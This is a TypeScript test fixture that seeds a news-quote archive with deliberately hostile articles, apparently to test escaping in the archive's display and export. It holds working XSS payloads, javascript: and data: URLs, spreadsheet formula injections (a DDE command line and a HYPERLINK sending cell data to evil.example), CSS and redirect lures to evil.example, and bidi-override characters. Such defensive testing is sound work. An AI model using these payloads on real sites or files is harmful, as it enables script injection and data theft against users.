import { settleArchive, setNote, findSubject } from "../../../src/archive/index.js";
import type { Article, Person, Reading } from "../../../src/model/index.js";
import { addReadings, type NewReading, type Store } from "../../../src/store/index.js";
import { buildReading, type StatementSketch } from "../../cli/support/build-reading.js";
import { plainStanding } from "../../support/example-readings.js";

/*
 * Articles by somebody who wants to harm whoever reads them here: markup where
 * there should be words, addresses that are programs, formulas, letters that
 * turn the line around, names without end. They stand in the archive as if
 * ingest and the reader had let everything through.
 */

/** Makes what comes behind it run from right to left. */
const turnAround = "\u202e";
const unseen = "\u200b\u2060\ufeff";

/** By each the browser would tell us that it ran. */
export const scripts = {
  title: '</title></script><script>alert("title")</script>',
  outlet: '=HYPERLINK("http://evil.example/?"&A1,"outlet")<script>alert("outlet")</script>',
  byline: '"><img src=x onerror=alert("byline")>',
  quote: '</script><script>alert("quote")</script>',
  name: 'Ana <img src=x onerror=alert("name")> Brook',
  role: 'mayor of <svg onload=alert("role")>Ostrey',
  reply: "=cmd|'/C calc'!A0 --><!--]]>",
  frame: '<iframe src="javascript:alert(1)"></iframe>',
  notice: '<style>@import "http://evil.example/a.css";</style>',
  note: '\'"><details open ontoggle=alert("note")>',
  problem: "<base href=http://evil.example/><link rel=stylesheet href=//evil.example/b.css>",
  why: "<meta http-equiv=refresh content=0;url=http://evil.example/>",
} as const;

/** A name that is longer than any line, and one that cannot be broken. */
const longName = `Wrenfield ${"Ashcombe-".repeat(600)}Tolliver`;

/** Addresses that lead to no page. */
export const noAddresses: readonly string[] = [
  'javascript:alert("url")',
  " JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example/page",
];

const hex = (number: number): string => number.toString(16).padStart(64, "0");
export const idOf = (article: number): string => `sha256:${hex(article)}`;
const statementIdOf = (article: number, place: number): string =>
  `sha256:${hex(article * 100_000 + place)}`;

/** Where words stand in a text, with the name's other form. */
function mention(text: string, words: string): Person["mentions"][number] {
  const start = text.indexOf(words);
  return { start, end: start + words.length, form: "name" };
}

const marlow = `${turnAround}Ines "><script>alert("marlow")</script> Marlow`;

const text = [
  scripts.title,
  `“${scripts.quote} we go on,” said ${scripts.name}, the ${scripts.role}.`,
  `“${scripts.reply} is no answer,” replied ${marlow}, a spokeswoman for the harbour.`,
  `Brook did not say whether ${unseen}${scripts.frame} would follow.`,
  `“It may be ${turnAround}me,” somebody said.`,
  `${longName}, the director of the port, said the boats were old.`,
  "\u0000 \u0007 &lt;script&gt; &#60;script&#62; \\u003cscript\\u003e {{7*7}} ${7*7} 😀\u0301\u0301\u0301",
].join("\n\n");

const sketches: readonly StatementSketch[] = [
  {
    content: `${scripts.quote} we go on`,
    cue: "said",
    source: scripts.name,
    speakers: ["p1"],
    addressees: ["p2"],
    about: ["p2", "p4"],
    confidence: 0.97,
    why: [scripts.why],
  },
  {
    content: `${scripts.reply} is no answer`,
    cue: "replied",
    source: marlow,
    speakers: ["p2"],
    act: "reply",
    confidence: 0.95,
    inReplyTo: { statement: statementIdOf(1, 0), person: "p1", evidence: [] },
    grounds: "a spokeswoman for the harbour",
  },
  {
    kind: "indirect",
    status: "negated",
    content: `whether ${unseen}${scripts.frame} would follow`,
    cue: "did not say",
    source: "Brook",
    speakers: ["p1"],
    confidence: 0.9,
  },
  {
    content: `It may be ${turnAround}me`,
    cue: "said",
    source: "somebody",
    speakers: ["p3"],
    candidates: [
      { person: "p3", confidence: 0.4 },
      { person: "p1", confidence: 0.3 },
    ],
    confidence: 0.4,
  },
  {
    kind: "indirect",
    content: "the boats were old",
    cue: "said",
    source: longName,
    speakers: ["p4"],
    confidence: 0.9,
  },
];

function hostileReading(): Reading {
  const people = {
    p1: scripts.name,
    p2: marlow,
    p3: "=1+1 Formula <b>Jones</b>",
    p4: longName,
  };
  const built = buildReading(text, people, sketches, {
    id: idOf(1),
    title: scripts.title,
    outlet: scripts.outlet,
    byline: [scripts.byline],
    url: 'https://press.example/"onmouseover="alert(1)" x="<script>',
    published: "2026-05-09",
    provenance: { file: "<script>file</script>", offset: null, fetched: "2026-05-09T09:30:00Z" },
  });
  const roles: Readonly<Record<string, string>> = {
    p1: scripts.role,
    p2: "spokeswoman for the harbour",
    p4: "director of the port",
  };
  return {
    ...numbered(built, 1),
    article: { ...built.article, blocks: withTitle(built.article) },
    people: built.people.map((person) => ({
      ...person,
      aliases: [scripts.note],
      handles: ["@<script>alert(1)</script>"],
      roles: roles[person.id] === undefined ? [] : [mention(text, roles[person.id]!)],
      mentions: text.includes(person.name) ? [mention(text, person.name)] : [],
    })),
    problems: [{ code: "unbalanced-quotation", start: 0, end: 1, message: scripts.problem }],
  };
}

function withTitle({ blocks }: Article): Article["blocks"] {
  return blocks.map((block, place) => (place === 0 ? { ...block, kind: "title" } : block));
}

function numbered(reading: Reading, article: number): Reading {
  return {
    ...reading,
    statements: reading.statements.map((one, place) => ({
      ...one,
      id: statementIdOf(article, place),
    })),
  };
}

/** How many statements stand over the same words of one paragraph. */
export const nestedDeep = 25;

/** Statements within statements, as no reader makes them. */
function nestedReading(): Reading {
  const words = Array.from({ length: nestedDeep }, (_, place) => `word${place}`).join(" ");
  const nested = Array.from({ length: nestedDeep }, (_, place): StatementSketch => ({
    content: words.slice(0, words.length - place * 4),
    speakers: ["p1"],
    within: place === 0 ? null : statementIdOf(2, place - 1),
  }));
  const built = buildReading(`“${words}”`, { p1: "Oda Rehn" }, nested, {
    id: idOf(2),
    title: `${"=".repeat(40)} A title without end ${"long".repeat(2000)}`,
    outlet: "@SUM(1+1)",
    published: "2026-05-10",
  });
  return numbered(built, 2);
}

function addressReading(url: string, place: number): Reading {
  const article = place + 3;
  const said: StatementSketch = { content: "We wait", source: "Tove Lindqvist", speakers: ["p1"] };
  const built = buildReading("“We wait,” said Tove Lindqvist.", { p1: "Tove Lindqvist" }, [said], {
    id: idOf(article),
    url,
    title: "+1 waits",
    outlet: "-Outlet",
    published: "2026-05-11",
  });
  return numbered(built, article);
}

function newReading(reading: Reading, notice: string | null): NewReading {
  return {
    reading,
    sentences: reading.statements.map(({ content }) => ({
      start: content[0]!.start,
      end: content.at(-1)!.end,
    })),
    kept: "full",
    standing: { ...plainStanding, notice },
  };
}

const hand = { editor: "<script>alert('editor')</script>", at: "2026-06-01T00:00:00Z" };

/** Fills an archive with these articles, and with an editor's notes that are no better. */
export async function fillHostile(store: Store): Promise<void> {
  const readings = [
    newReading(hostileReading(), scripts.notice),
    newReading(nestedReading(), null),
    ...noAddresses.map((url, place) => newReading(addressReading(url, place), null)),
  ];
  await store.write((tx) => addReadings(tx, store, readings));
  await settleArchive(store);
  const statement = await findSubject(store, statementIdOf(1, 0));
  await setNote(store, hand, "dispute", statement, scripts.note);
}
